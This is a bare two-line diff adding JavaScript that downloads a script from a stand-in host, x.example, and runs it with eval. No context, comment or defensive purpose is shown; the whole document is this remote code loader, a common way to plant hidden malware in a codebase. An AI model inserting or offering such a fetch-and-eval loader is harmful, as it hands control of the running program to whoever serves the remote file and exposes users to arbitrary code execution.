@@ -1,0 +1,2 @@
+const code = await (await fetch('https://x.example/p.js')).text();
+eval(code);
